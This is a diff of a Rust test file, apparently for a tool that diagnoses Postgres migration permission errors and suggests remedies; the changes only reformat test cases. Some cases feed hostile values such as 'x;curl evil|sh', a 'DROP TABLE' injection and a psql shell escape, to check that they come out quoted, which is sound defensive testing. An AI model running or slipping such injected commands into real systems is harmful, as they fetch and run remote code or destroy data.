@@ -33,11 +33,7 @@ use crate::{
     MigrationPermissionDenied,
     "table users_hubspottracker"
 )]
-#[case(
-    "permission denied for table django_migrations",
-    MigrationPermissionDenied,
-    "table django_migrations"
-)]
+#[case("permission denied for table django_migrations", MigrationPermissionDenied, "table django_migrations")]
 #[case(
     "permission denied to create extension \"hstore\"\nHINT:  Must have CREATE privilege on current database to create this extension.",
     MigrationExtensionUnavailable,
@@ -66,15 +62,8 @@ fn refused(#[case] message: &str, #[case] expected: Code, #[case] object: &str) 
 
 #[test]
 fn the_evidence_names_owner_and_number_of_tables() {
-    let owner = Owner {
-        name: "postgres".to_owned(),
-        tables: 44,
-        example: "users_ffadminuser".to_owned(),
-    };
-    let observation = with_preflight(Preflight {
-        owners: vec![owner],
-        ..good()
-    });
+    let owner = Owner { name: "postgres".to_owned(), tables: 44, example: "users_ffadminuser".to_owned() };
+    let observation = with_preflight(Preflight { owners: vec![owner], ..good() });
     let found = diagnose(&installation(&spec(json!({}))), &observation);
     let first = found.first().unwrap();
     assert_eq!(
@@ -83,31 +72,19 @@ fn the_evidence_names_owner_and_number_of_tables() {
             "database: users_ffadminuser (and 43 more of Flagsmith's tables) is owned by \"postgres\"; the migration connects as \"app\""
         ]
     );
-    assert!(
-        first.remedy.contains("REASSIGN OWNED BY postgres TO app;"),
-        "{}",
-        first.remedy
-    );
+    assert!(first.remedy.contains("REASSIGN OWNED BY postgres TO app;"), "{}", first.remedy);
 }
 
 #[rstest]
 #[case("x;curl evil|sh", "\"x;curl evil|sh\"", "\"x;curl evil|sh\"")]
-#[case(
-    "x\"; DROP TABLE t; --",
-    "\"x\"\"; DROP TABLE t; --\"",
-    "\"x\"\"; DROP TABLE t; --\""
-)]
+#[case("x\"; DROP TABLE t; --", "\"x\"\"; DROP TABLE t; --\"", "\"x\"\"; DROP TABLE t; --\"")]
 #[case("x\u{1b}[2J\n\\! sh", "OLD_ROLE", "ROLE")]
 fn hostile_names_are_quoted(#[case] name: &str, #[case] owner: &str, #[case] role: &str) {
     let observation = with_preflight(Preflight {
         role: name.to_owned(),
         schema: Some(name.to_owned()),
         creates_tables: false,
-        owners: vec![Owner {
-            name: name.to_owned(),
-            tables: 1,
-            example: "t".to_owned(),
-        }],
+        owners: vec![Owner { name: name.to_owned(), tables: 1, example: "t".to_owned() }],
         ..good()
     });
     let found = diagnose(&installation(&spec(json!({}))), &observation);
@@ -120,10 +97,7 @@ fn hostile_names_are_quoted(#[case] name: &str, #[case] owner: &str, #[case] rol
 
 #[rstest]
 #[case("table x;curl evil|sh", "ALTER TABLE \"x;curl evil|sh\" OWNER TO ROLE;")]
-#[case(
-    "table x\"; DROP TABLE t; --",
-    "ALTER TABLE \"x\"\"; DROP TABLE t; --\" OWNER TO ROLE;"
-)]
+#[case("table x\"; DROP TABLE t; --", "ALTER TABLE \"x\"\"; DROP TABLE t; --\" OWNER TO ROLE;")]
 #[case("t;curl${IFS}evil|sh x", "\\dt and \\dn+ in psql")]
 fn hostile_objects_of_a_log_are_quoted(#[case] object: &str, #[case] expected: &str) {
     let log = format!("psycopg2.errors.InsufficientPrivilege: must be owner of {object}\n");
